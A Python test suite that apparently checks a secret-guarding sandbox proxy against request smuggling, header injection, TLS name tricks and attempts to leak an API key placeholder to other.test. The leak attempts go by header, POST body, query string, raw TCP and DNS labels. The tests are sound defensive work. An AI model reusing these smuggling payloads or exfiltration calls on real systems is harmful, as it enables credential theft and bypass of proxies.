"""Attacks from inside on what keeps secrets outside. Each has a control: the same bytes, or the same host, without the wall."""
import base64

import secret_world as worlds
from secrets_outside import OTHER, RULES, SECRET, caller, curl, requests
from scratch import PATIENCE
from session import sanitized_too

TESTS = []

RAW = f"PATIENCE = {PATIENCE}\n" + """
import os, socket, ssl, sys
def ask(data, host="allowed.test", named=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    s = context.wrap_socket(socket.create_connection((host, 443), PATIENCE), server_hostname=named or host)
    s.sendall(data)
    got = b""
    try:
        while part := s.recv(65536):
            got += part
            if b"Connection: close" not in data: s.settimeout(3)   # where nobody closes, silence is the end
    except (TimeoutError, ssl.SSLError, ConnectionError): pass
    return got
key = os.environ.get("API_KEY", "none")
"""


def test(function):
    TESTS.append(function)
    return function


def raw(session, code):
    return session.run(RULES, "/usr/bin/python3", "-c", RAW + code, env=caller(session), timeout=60)


MALFORMED = {
    "it says twice how long its content is": r"POST /post HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "a header line is malformed": r"GET /folded HTTP/1.1\r\nHost: allowed.test\r\nX-A: 1\r\n b\r\n\r\n",
    "a line does not end in CR LF": r"GET /bare HTTP/1.1\r\nHost: allowed.test\nX-A: 1\r\n\r\n",
    "it does not name its host once": r"GET /twice HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\n\r\n",
    "it is for another host": r"GET /elsewhere HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "its target is not a path": r"GET https://other.test/absolute HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "its chunks are malformed": r"POST /post HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n4;ext=1\r\nabcd\r\n0\r\n\r\n",
    "its Connection header names another header": r"GET /drop HTTP/1.1\r\nHost: allowed.test\r\nConnection: authorization\r\n\r\n",
    "its method is not in capital letters": r"head /small HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "CONNECT asks for another connection": r"CONNECT other.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "it is not HTTP/1.1": r"GET /old HTTP/1.0\r\nHost: allowed.test\r\n\r\n",
}


@test
@sanitized_too
def requests_with_two_readings_are_refused(session):
    for problem, request in MALFORMED.items():
        done = raw(session, f'print(ask(b"{request}").decode())')
        assert done.out.startswith("HTTP/1.1 400 Bad Request") and f"this request is refused: {problem}." in done.out, (problem, done)
        seen = requests(session)
        assert not [event for event in seen if event[1] in ("/smuggled", "/folded", "/bare", "/twice", "/elsewhere", "/drop", "/old", "/small")], seen


@test
def the_same_requests_reach_the_server_without_the_wall(session):
    """The control: where TLS does not end here, the server takes most of them."""
    taken = 0
    for request in MALFORMED.values():
        code = RAW.replace("ssl.create_default_context()", 'ssl.create_default_context(cafile="cert.pem")') + f'ask(b"{request}")'
        done = session.run(["connect allowed.test"], "/usr/bin/python3", "-c", code, env={}, timeout=60)
        assert done.status == 0, done
        taken += bool(requests(session))
    assert taken >= 7, taken


@test
@sanitized_too
def pipelined_requests_are_answered_one_by_one(session):
    done = raw(session, r"""
one = lambda path: f"GET {path} HTTP/1.1\r\nHost: allowed.test\r\nx-api-key: {key}\r\n\r\n".encode()
print(ask(one("/first") + one("/second") + one("/third").replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")).count(b"HTTP/1.1 200"))
""")
    assert done.out == "3\n", done
    assert [(path, headers["x-api-key"]) for _, path, headers, _ in requests(session)] == [(path, SECRET) for path in ("/first", "/second", "/third")]


@test
def a_header_cannot_be_split_by_a_placeholder(session):
    done = raw(session, r"""
print(ask(f"GET / HTTP/1.1\r\nHost: allowed.test\r\nx-api-key: {key}\r\n X-Evil: 1\r\n\r\n".encode())[:12])
""")
    assert done.out == "b'HTTP/1.1 400'\n" and requests(session) == [], done


@test
@sanitized_too
def what_one_connection_sent_is_cleaned_on_every_other(session):
    """A server that stores a request's headers may give them to a connection that is older than the secret, or never sent it."""
    done = raw(session, r"""
import base64
def connect():
    context = ssl.create_default_context()
    return context.wrap_socket(socket.create_connection(("allowed.test", 443), PATIENCE), server_hostname="allowed.test")
def get(s, path, header=""):
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: allowed.test\r\n{header}\r\n".encode())
    got = b""
    while b"\r\n\r\n" not in got: got += s.recv(65536)
    head, body = got.split(b"\r\n\r\n", 1)
    size = int([line for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")][0].split(b":")[1])
    while len(body) < size: body += s.recv(65536)
    return body.decode()
old = connect()
get(old, "/hello")
basic = base64.b64encode(f"me:{key}".encode()).decode()
assert get(connect(), "/store", f"x-api-key: {key}\r\nAuthorization: Basic {basic}\r\n") == "stored"
for connection in old, connect():
    print(get(connection, "/stored"))
""")
    form = base64.b64encode(f"me:{SECRET}".encode()).decode()
    assert done.status == 0 and done.out.count('"x-api-key"') == 2 and done.out.count("Basic ") == 2, done
    assert SECRET not in done.out and form not in done.out, done
    stored = [headers for _, path, headers, _ in requests(session) if path == "/store"]
    assert stored and stored[0]["x-api-key"] == SECRET and stored[0]["authorization"] == f"Basic {form}", stored  # the control


@test
def a_header_that_is_no_credential_carries_none(session):
    """Some servers show such headers to everybody, as a store of objects does with X-Amz-Meta-."""
    names = ("X-Amz-Meta-Note", "User-Agent", "Referer", "X-Request-Id", "Idempotency-Key", "Sec-WebSocket-Key", "Cookie")
    words = [word for name in names for word in ("-H", f"{name}: $API_KEY")]
    done = session.run(RULES, "/bin/sh", "-c", 'exec curl -sS https://allowed.test/ -H "x-api-key: $API_KEY" '
                       + " ".join(f'"{word}"' for word in words), env=caller(session), timeout=60)
    (_, _, headers, _), = requests(session)
    assert done.status == 0 and headers["x-api-key"] == SECRET, (done, headers)
    assert [name for name in names if headers.get(name.lower()) in (None, SECRET)] == [], headers


@test
def a_name_in_tls_must_be_the_host(session):
    done = raw(session, r"""
try: print(ask(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", named="other.test"))
except (OSError, ssl.SSLError) as error: print(type(error).__name__)
""")
    assert "Error" in done.out or done.out == "b''\n", done
    assert requests(session) == []


@test
def pieces_of_an_answer_cannot_be_asked_for(session):
    """Byte by byte, no piece would be the secret."""
    done = curl(session, '-r 0-3 -H "x-api-key: $API_KEY" https://allowed.test/')
    [(_, _, headers, _)] = requests(session)
    assert done.status == 0 and "range" not in headers, headers


@test
def a_redirect_takes_a_placeholder_along(session):
    rules = [*RULES, "connect other.test"]
    done = curl(session, '--location-trusted -H "x-api-key: $API_KEY" https://allowed.test/redirect', rules=rules)
    seen = {path: headers["x-api-key"] for _, path, headers, _ in requests(session)}
    assert done.status == 0 and seen["/redirect"] == SECRET and seen["/stolen"].startswith("sk-ant-api03-"), seen
    assert seen["/stolen"] != SECRET and SECRET not in done.out, seen


@test
@sanitized_too
def a_placeholder_for_another_host_is_an_alarm(session):
    rules = [*RULES, "connect other.test", "secret TOKEN to other.test"]
    env = caller(session, TOKEN=OTHER)
    for words in ('-H "x-stolen: $API_KEY" https://other.test/a', '-d "key=$API_KEY" https://other.test/b',
                  '"https://other.test/c?k=$API_KEY"'):
        done = curl(session, '-w "%{http_code}"', words, rules=rules, env=env)
        assert done.out == "bawn: a placeholder was sent to a host that its secret is not for.\n403", done
    assert [event for event in requests(session) if event[1] != "/b"] == []
    told = [(event["name"], event["host"], event["port"]) for event in session.events("secret-misused")]
    assert told == [("API_KEY", "other.test", "443")] * 3, told
    done = curl(session, '-H "Authorization: Bearer $TOKEN" https://other.test/', rules=rules, env=env)  # the control
    assert requests(session)[-1][2]["authorization"] == f"Bearer {OTHER}", done


@test
def no_number_of_alarms_hides_that_of_another_secret(session):
    code = RAW + r"""
def steal(value, host): return b" 403 " in ask(f"GET / HTTP/1.1\r\nHost: {host}\r\nx: {value}\r\n\r\n".encode(), host)
print(all([steal(os.environ["API_KEY"], "other.test") for _ in range(1100)]), steal(os.environ["TOKEN"], "allowed.test"))
"""
    rules = [*RULES, "connect other.test", "secret TOKEN to other.test"]
    done = session.run(rules, "/usr/bin/python3", "-c", code, env=caller(session, TOKEN=OTHER), timeout=100)
    assert done.out == "True True\n", done
    told = [(event["name"], event["host"]) for event in session.events("secret-misused")]
    assert told[-1] == ("TOKEN", "allowed.test") and 1000 < len(told) < 1100, (len(told), told[-1])  # the control: there is a limit
    assert sum(event.get("lost", 0) for kind in ("name", "connected", "secret-misused") for event in session.events(kind)) > 50


def refused_server(session, port, problem):
    rules = [f"connect allowed.test:{port}", f"secret API_KEY to allowed.test:{port}"]
    done = curl(session, f'-w "%{{http_code}}" -H "x-api-key: $API_KEY" https://allowed.test:{port}/', rules=rules)
    assert done.out.endswith(".\n502") and problem in done.out, done
    assert requests(session) == []
    control = session.run([f"connect allowed.test:{port}"], "sh", "-c",
                          f"curl -sSk --tlsv1.0 --ciphers ALL:@SECLEVEL=0 -m 60 https://allowed.test:{port}/control", env={})
    assert control.status == 0 and requests(session)[0][1] == "/control", control


@test
def an_expired_certificate_is_refused(session):
    refused_server(session, worlds.EXPIRED, "the certificate of allowed.test is not trusted: certificate has expired")


@test
def a_certificate_for_another_host_is_refused(session):
    refused_server(session, worlds.WRONG_NAME, "the certificate of allowed.test is not trusted: hostname mismatch")


@test
def a_certificate_of_nobody_is_refused(session):
    refused_server(session, worlds.UNKNOWN, "the certificate of allowed.test is not trusted: self-signed certificate")


@test
def old_tls_is_refused(session):
    refused_server(session, worlds.OLD_TLS, "TLS with allowed.test failed")


@test
def the_sessions_authority_is_for_its_hosts_alone(session):
    done = session.run(RULES, "sh", "-c", 'exec openssl x509 -in "$NODE_EXTRA_CA_CERTS" -noout -ext nameConstraints,basicConstraints', env=caller(session))
    assert "X509v3 Name Constraints: critical\n    Permitted:\n      DNS:allowed.test\n" in done.out and "pathlen:0" in done.out, done
    keys = session.run(RULES, "sh", "-c", "grep -rl 'PRIVATE KEY' /run/bawn /tmp ~ $TMPDIR 2>/dev/null; true", env=caller(session))
    assert keys.out == "", keys


@test
def a_repository_cannot_name_a_secret(session):
    (session.work / ".bawn").write_text("secret API_KEY to other.test\n")
    done = session.run(RULES, "true", env=caller(session))
    assert done.status != 0 and "a repository cannot say where your secrets go" in done.err, done


@test
@sanitized_too
def many_connections_that_break_off_harm_nothing(session):
    """They end at every moment: before TLS, in its handshake, before an answer, in the middle of one."""
    done = raw(session, r"""
import random, struct, threading
def one(number):
    context = ssl.create_default_context()
    for turn in range(6):
        plain = socket.create_connection(("allowed.test", 443), PATIENCE)
        if number % 4 and turn % 2: plain.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        if number % 4 == 0:
            plain.close()
            continue
        with context.wrap_socket(plain, server_hostname="allowed.test") as s:
            s.sendall(f"GET /bytes/{number * 50000} HTTP/1.1\r\nHost: allowed.test\r\nx-api-key: {key}\r\n\r\n".encode())
            if number % 4 > 1: s.recv(1 << (number % 16))
threads = [threading.Thread(target=one, args=(number,)) for number in range(16)]
for thread in threads: thread.start()
for thread in threads: thread.join()
print(ask(f"GET /last HTTP/1.1\r\nHost: allowed.test\r\nx-api-key: {key}\r\nConnection: close\r\n\r\n".encode()).split(b"\r\n")[0])
""")
    assert done.out == "b'HTTP/1.1 200 OK'\n", done
    assert not session.events("vault-died") and requests(session)[-1][2]["x-api-key"] == SECRET


@test
@sanitized_too
def a_placeholder_in_plain_bytes_is_an_alarm(session):
    """To a host that gets no secret and at which TLS does not end: as HTTP, and as any other bytes, also in two pieces."""
    rules = [*RULES, "connect other.test:80", "connect other.test:5432"]
    code = RAW + r"""
def send(port, *pieces):
    with socket.create_connection(("other.test", port), PATIENCE) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        got = b""
        try:
            for piece in pieces:
                s.sendall(piece)
                if piece is not pieces[-1]: got += s.recv(1)
            s.shutdown(socket.SHUT_WR)
            while part := s.recv(65536): got += part
        except ConnectionError: got += b" broken"
    return got
text = key.encode()
def http(path, body=b""): return b"POST %s HTTP/1.1\r\nHost: other.test\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (path, len(body), body)
print(b"placeholder" in send(80, http(b"/" + text)), b"placeholder" in send(80, http(b"/", text)))
print(text in send(5432, b"x" * 1000 + text), text in send(5432, b"y" + text[:20], text[20:]), text in send(5432, b"z" * 65000 + text[:9], text[9:]))
print(send(5432, b"x" * 100 + text[:-1])[-7:], b"200 OK" in send(80, http(b"/fine")))
"""
    done = session.run(rules, "/usr/bin/python3", "-c", code, env=caller(session), timeout=60)
    assert done.out == "True True\nFalse False False\nb'the end' True\n", done
    told = sorted({(event["name"], event["host"], event["port"]) for event in session.events("secret-misused")})
    assert told == [("API_KEY", "other.test", "5432"), ("API_KEY", "other.test", "80")], told
    without = code.replace("key.encode()", 'b"sk-ant-api03-" + b"x" * 32')  # the control: such a text passes if it is no placeholder
    done = session.run(rules, "/usr/bin/python3", "-c", without, env=caller(session), timeout=60)
    assert done.out == "False False\nTrue True True\nb'the end' True\n", done


@test
def a_placeholder_in_a_name_is_an_alarm(session):
    code = RAW + r"""
def find(name):
    try: return socket.gethostbyname(name)
    except OSError as error: return error.errno
print(find(f"{key[:20]}.{key[20:]}.wild.example.test"), find(f"{key.lower()}.example.test"), find("wild.example.test") != -2)
"""
    done = session.run([*RULES, "connect *.example.test"], "/usr/bin/python3", "-c", code, env=caller(session), timeout=60)
    assert done.out == "-2 -2 True\n", done
    told = session.events("secret-misused")
    assert [(event["name"], event["host"], event["port"]) for event in told] == [("API_KEY", "example.test", "53")], told
